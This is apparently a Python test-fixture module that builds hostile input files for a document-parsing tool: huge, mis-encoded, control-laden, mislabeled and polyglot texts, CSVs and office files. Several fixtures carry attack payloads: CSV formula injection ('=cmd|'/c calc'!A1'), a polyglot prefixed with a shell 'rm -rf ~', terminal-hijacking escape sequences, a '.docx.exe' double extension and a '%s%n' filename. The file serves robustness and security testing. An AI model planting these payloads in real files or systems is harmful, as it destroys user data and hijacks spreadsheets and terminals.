"""Hostile texts and tables of values, and files that are not what their name says."""

from pathlib import Path

from tests.hostile.making import Scene, kind, one_file
from tests.hostile.packages import SENTENCE, body, paragraph, word

FRENCH = "Les traversiers ont circulé tout l’hiver, et personne sur le quai ne l’aurait cru possible.\n\n"


@one_file(".txt")
def txt_in_one_line(scene: Scene) -> bytes:
    return (SENTENCE + " ").encode() * scene.sized(65_000, 270_000)


@one_file(".txt")
def txt_of_one_word(scene: Scene) -> bytes:
    return b"ferry" * scene.sized(400_000, 4_000_000)


@one_file(".txt")
def txt_of_too_many_characters(scene: Scene) -> bytes:
    return (SENTENCE + "\n\n").encode() * 280_000


@one_file(".txt")
def txt_of_many_paragraphs(scene: Scene) -> bytes:
    return b"".join(b"Paragraph %d is a short one.\n\n" % n for n in range(scene.sized(10_000, 600_000)))


@one_file(".txt")
def txt_of_very_many_tiny_paragraphs(scene: Scene) -> bytes:
    return b"a b\n\n" * scene.sized(100_000, 4_000_000)


@one_file(".txt")
def txt_of_many_lines(scene: Scene) -> bytes:
    return b"".join(b"line %d of them\n" % n for n in range(200_000))


@kind
def txt_of_two_hundred_megabytes(folder: Path, scene: Scene) -> None:
    with (folder / "giant.txt").open("wb") as file:
        file.write(FRENCH.encode())
        if scene.is_full:
            for _ in range(200):
                file.write(FRENCH.encode() * 10_000)
        else:
            file.truncate(200_000_000)


@kind
def txt_just_over_what_is_read(folder: Path, scene: Scene) -> None:
    with (folder / "over.txt").open("wb") as file:
        file.write(FRENCH.encode())
        file.truncate(100_000_001)


@one_file(".txt")
def txt_with_nuls(scene: Scene) -> bytes:
    return SENTENCE.encode().replace(b" ", b"\0 ") * 50


@one_file(".txt")
def txt_of_nuls(scene: Scene) -> bytes:
    return bytes(5_000_000)


@one_file(".txt")
def txt_of_noise(scene: Scene) -> bytes:
    state, out = 12345, bytearray()
    for _ in range(100_000):
        state = (state * 1103515245 + 12345) & 0x7FFFFFFF
        out.append(state >> 16 & 0xFF)
    return bytes(out)


@one_file(".txt")
def txt_in_utf_16_without_a_mark(scene: Scene) -> bytes:
    return FRENCH.encode("utf-16-le") * 20


@one_file(".txt")
def txt_in_utf_16_cut_within_a_character(scene: Scene) -> bytes:
    return (FRENCH * 20 + "\U0001f600").encode("utf-16")[:-3]


@one_file(".txt")
def txt_in_utf_32(scene: Scene) -> bytes:
    return (FRENCH * 20).encode("utf-32")


@one_file(".txt")
def txt_in_utf_8_cut_within_a_character(scene: Scene) -> bytes:
    return (FRENCH * 20 + "é").encode()[:-1]


@one_file(".txt")
def txt_in_utf_8_that_is_none(scene: Scene) -> bytes:
    return (
        FRENCH.encode() * 5
        + b"\xc0\xaf \xed\xa0\x80 \xf8\x88\x80\x80\x80 \xf4\x90\x80\x80 \xfe\xff\xff"
        + FRENCH.encode()
    )


@one_file(".txt")
def txt_of_marks_alone(scene: Scene) -> bytes:
    return "\ufeff".encode() * 1_000


@one_file(".txt")
def txt_of_two_encodings(scene: Scene) -> bytes:
    return FRENCH.encode("utf-8") * 5 + FRENCH.encode("cp1252") * 5


@one_file(".txt")
def txt_of_escape_sequences(scene: Scene) -> bytes:
    return b"\x1b$B0!" * 50_000 + b"\x1b(B" + SENTENCE.encode()


@one_file(".txt")
def txt_in_big_machine_letters(scene: Scene) -> bytes:
    return (SENTENCE * 20).encode("cp500")


@one_file(".txt")
def txt_of_control_characters(scene: Scene) -> bytes:
    return (
        "".join(chr(n) for n in range(1, 32)).encode() * 20
        + SENTENCE.encode()
        + b"\x7f\xc2\x80\xc2\x85\xe2\x80\xa8\xe2\x80\xa9"
    )


@one_file(".txt")
def txt_that_turns_round(scene: Scene) -> bytes:
    return ("\u202e\u2066\u2067" + SENTENCE + "\u202a" * 5_000 + "\u200f" + SENTENCE).encode()


@one_file(".txt")
def txt_of_nothing_visible(scene: Scene) -> bytes:
    return ("\u200b\u200c\u200d\u2060\ufeff\u00ad" * 20_000).encode()


@one_file(".txt")
def txt_under_a_heap_of_accents(scene: Scene) -> bytes:
    return ("a" + "\u0301\u0316" * 300_000 + " " + SENTENCE).encode()


@one_file(".txt")
def txt_of_letters_from_no_plane(scene: Scene) -> bytes:
    return ("\ue000\U000f0000\U0010fffd\ufffe\U0001f468\u200d\U0001f469\u200d\U0001f467 " * 2_000 + SENTENCE).encode()


@one_file(".txt")
def txt_of_blanks(scene: Scene) -> bytes:
    return b" " * 3_000_000 + b"\n"


@one_file(".txt")
def txt_of_line_ends(scene: Scene) -> bytes:
    return b"\n" * 3_000_000


@one_file(".txt")
def txt_of_every_line_end(scene: Scene) -> bytes:
    ends = ("\n", "\r", "\r\n", "\n\r", "\x0b", "\x0c", "\x1c", "\x85", "\u2028", "\u2029")
    return "".join(SENTENCE + end for end in ends * 200).encode()


@one_file(".txt")
def txt_that_speaks_to_terminals(scene: Scene) -> bytes:
    return b"\x1b]0;owned\x07\x1b[2J\x1b[31m" + SENTENCE.encode() + b"\x1b[0m" * 200


@one_file(".txt")
def txt_of_beginnings_of_dates(scene: Scene) -> bytes:
    return b"January 1, 20 1 January 20 2024-01- " * 20_000


@one_file(".txt")
def txt_of_digits(scene: Scene) -> bytes:
    return b"1" * 1_000_000 + b" " + b"1,234." * 100_000


@one_file(".txt")
def txt_of_addresses_that_never_end(scene: Scene) -> bytes:
    return b"a@" * 100_000 + b" http://" * 50_000 + b"www." * 100_000


@one_file(".txt")
def txt_of_field_names(scene: Scene) -> bytes:
    return b"Date: Subject: From: To: OTTAWA, ONTARIO - " * 20_000


@one_file(".txt")
def txt_of_capitals(scene: Scene) -> bytes:
    return b"".join(b"THE FERRIES OF PART %d\n\n" % n for n in range(20_000))


@one_file(".txt")
def txt_of_signs(scene: Scene) -> bytes:
    return b"-=_*#~.|+ " * 100_000


@one_file(".txt")
def txt_of_brackets(scene: Scene) -> bytes:
    return b"([{<" * 100_000 + SENTENCE.encode() + b"\"'" * 100_000


@one_file(".txt")
def txt_of_columns(scene: Scene) -> bytes:
    return (b"word" + b" " * 400) * 5_000


@one_file(".csv")
def csv_of_many_columns(scene: Scene) -> bytes:
    return b",".join(b"c%d" % n for n in range(100_000)) + b"\n" + b",".join(b"%d" % n for n in range(100_000)) + b"\n"


@one_file(".csv")
def csv_whose_quote_never_ends(scene: Scene) -> bytes:
    return b'a,b\n1,"' + b"x,y\n" * 500_000


@one_file(".csv")
def csv_of_quotes(scene: Scene) -> bytes:
    return b'"' * 1_000_001


@one_file(".csv")
def csv_of_separators(scene: Scene) -> bytes:
    return b",;\t|" * 500_000


@one_file(".csv")
def csv_of_formulas(scene: Scene) -> bytes:
    return f"name,value\nferry,=HYPERLINK(\"{scene.url}/x\")\nquay,=cmd|'/c calc'!A1\nship,@SUM(1)\n".encode()


@one_file(".csv")
def csv_of_many_rows(scene: Scene) -> bytes:
    return b"a,b,c\n" + b"1,2,3\n" * scene.sized(100_000, 3_000_000)


@one_file(".csv")
def csv_of_ragged_rows(scene: Scene) -> bytes:
    return b"\n".join(b"," * (n % 997) + b"x" for n in range(3_000))


@kind
def files_under_wrong_names(folder: Path, scene: Scene) -> None:
    docx = word(body(paragraph()))
    for name, data in {
        "docx.txt": docx,
        "docx.pdf": docx,
        "docx.zip": docx,
        "docx.html": docx,
        "text.docx": SENTENCE.encode(),
        "text.pdf": SENTENCE.encode(),
        "text.rtf": SENTENCE.encode(),
        "text.xlsx": SENTENCE.encode(),
        "text.msg": SENTENCE.encode(),
        "text.zip": SENTENCE.encode(),
        "page.docx": f"<html><body><p>{SENTENCE}</p></body></html>".encode(),
        "page.txt": f"<html><body><p>{SENTENCE}</p></body></html>".encode(),
        "picture.txt": b"\x89PNG\r\n\x1a\n" + bytes(500),
        "picture.docx": b"\xff\xd8\xff\xe0\x00\x10JFIF" + bytes(500),
        "program.docx": b"MZ\x90\x00" + bytes(500) + b"This program cannot be run in DOS mode.",
        "program.txt": b"\x7fELF" + bytes(500),
        "packed.txt": b"\x1f\x8b\x08\x00" + bytes(range(256)),
        "packed.md": b"7z\xbc\xaf\x27\x1c" + bytes(range(256)),
        "database.html": b"SQLite format 3\x00" + bytes(500),
        "class.md": b"\xca\xfe\xba\xbe" + bytes(500),
        "statement.docx.exe": docx,
        "statement.pdf.txt": SENTENCE.encode(),
    }.items():
        (folder / name).write_bytes(data)


@kind
def headers_alone(folder: Path, scene: Scene) -> None:
    for name, data in {
        "a.pdf": b"%PDF-1.7\n",
        "a.docx": b"PK\x03\x04",
        "a.xlsx": b"PK\x05\x06" + bytes(18),
        "a.rtf": b"{\\rtf1",
        "a.msg": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
        "a.eml": b"From:",
        "a.xml": b"<?xml",
        "a.html": b"<",
        "a.zip": b"PK",
        "a.txt": b"\xff\xfe",
        "b.txt": b"\xef\xbb",
        "a.mht": b"MIME-Version: 1.0\n",
        "a.md": b"---",
    }.items():
        (folder / name).write_bytes(data)


@kind
def empty_files(folder: Path, scene: Scene) -> None:
    for suffix in [
        "txt",
        "md",
        "docx",
        "doc",
        "odt",
        "rtf",
        "pdf",
        "html",
        "xml",
        "eml",
        "msg",
        "mht",
        "zip",
        "xlsx",
        "xls",
        "pptx",
        "ppt",
        "csv",
        "json",
        "unknown",
    ]:
        (folder / f"empty.{suffix}").touch()
    (folder / "no suffix").touch()


@kind
def names_without_a_stem(folder: Path, scene: Scene) -> None:
    for name in ("docx", "txt.", "..txt", "a..docx", "a.TXT", "a.", "a.b.c.d.e.txt", "~", "%s%n.txt", "a.txt "):
        (folder / name).write_bytes(SENTENCE.encode())


@kind
def polyglots(folder: Path, scene: Scene) -> None:
    docx = word(body(paragraph()))
    page = f"<html><body><p>{SENTENCE}</p></body></html>".encode()
    pdf = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
    for name, data in {
        "pdf and docx.pdf": pdf + docx,
        "pdf and docx.docx": pdf + docx,
        "picture and page.html": b"GIF89a/*" + bytes(20) + b"*/" + page,
        "page and pdf.html": page + pdf,
        "page and pdf.pdf": page + pdf,
        "rtf and page.rtf": b"{\\rtf1 " + page + b"}",
        "mail and page.eml": b"From: a\nContent-Type: text/html\n\n" + page,
        "docx behind a comment.docx": b"#!/bin/sh\nrm -rf ~\n" + docx,
        "docx and more.docx": docx + b"more" * 50_000,
    }.items():
        (folder / name).write_bytes(data)
